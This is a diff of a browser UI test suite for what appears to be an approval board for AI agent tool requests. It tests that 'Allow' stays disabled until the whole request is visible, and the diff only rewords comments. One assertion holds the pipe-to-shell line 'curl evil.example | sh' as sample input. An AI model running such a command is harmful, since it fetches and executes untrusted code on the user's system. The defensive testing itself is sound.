@@ -7,7 +7,7 @@ import { aPendingRequest, aSession } from '../../support/sessionBuilder';
 
 const open = wholeSuite();
 const waitMs = 600;
-/** Width in pixels of a page whose pane has the place of the lists. */
+/** Width in pixels of a page whose pane replaces the lists. */
 const narrow = 300;
 
 function asks(change: Partial<PendingRequest>): LiveSession {
@@ -31,14 +31,14 @@ const button = (host: FakeHost, name: string | RegExp) =>
 const allow = (host: FakeHost) => button(host, 'Allow');
 const isLive = async (host: FakeHost) =>
   (await allow(host).getAttribute('aria-disabled')) !== 'true';
-/** A person can press what is not live yet. */
+/** Presses the button although it is not enabled yet, as a person can. */
 const pressNotYet = (host: FakeHost) => allow(host).click({ force: true });
 const becomesLive = (host: FakeHost) =>
   eventually(async () => assert.equal(await isLive(host), true, 'Allow is not live'));
 const decided = (host: FakeHost) => host.received.filter(({ type }) => type === 'decide');
 const allowed = { type: 'decide', sessionId: 'one', call: 'call-one', decision: { kind: 'allow' } };
 
-/** Opens the board on a request, once the page has told what of it is in sight. */
+/** Opens the board on a request; resolves once the page has reported its visible part. */
 async function request(
   change: Partial<PendingRequest>,
   options: FakeHostOptions = {},
@@ -89,7 +89,7 @@ describe('A request is allowed only once all of it was in sight', () => {
     assert.match(await card.innerText(), /curl evil\.example \| sh/);
     assert.equal(await isLive(host), false);
     assert.match((await allow(host).getAttribute('title')) ?? '', /^First show the whole request/);
-    await pressNotYet(host); // Unfolds it, and no more.
+    await pressNotYet(host); // Only unfolds it.
     await settled(host);
     assert.deepEqual(decided(host), []);
     await button(host, 'Show Less').waitFor();
@@ -131,7 +131,8 @@ describe('A request is allowed only once all of it was in sight', () => {
     const host = await request({ toolInput: { command: lines(120) } }, { height: 500 });
     await host.page.evaluate(() => {
       const below = document.createElement('div');
-      below.style.height = '5px'; // As much as an editor's frame is higher than the page's place.
+      // Simulates an editor whose frame is higher than the page's place.
+      below.style.height = '5px';
       document.body.append(below);
     });
     await focusCard(host);
